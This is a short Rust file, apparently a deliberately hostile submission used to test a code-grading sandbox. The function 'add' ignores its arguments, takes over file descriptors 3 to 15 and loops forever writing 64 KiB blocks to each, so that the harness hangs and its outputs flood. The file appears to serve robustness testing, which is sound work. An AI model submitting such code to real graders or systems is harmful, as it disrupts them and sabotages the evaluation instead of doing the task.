// Tries: answer without end
// Kind: bomb

use std::io::Write;
use std::os::fd::FromRawFd;

pub fn add(_: i64, _: i64) -> i64 {
    let mut files: Vec<_> = (3..16).map(|descriptor| unsafe { std::fs::File::from_raw_fd(descriptor) }).collect();
    loop { for file in &mut files { let _ = file.write_all(&[b'A'; 65536]); } }
}
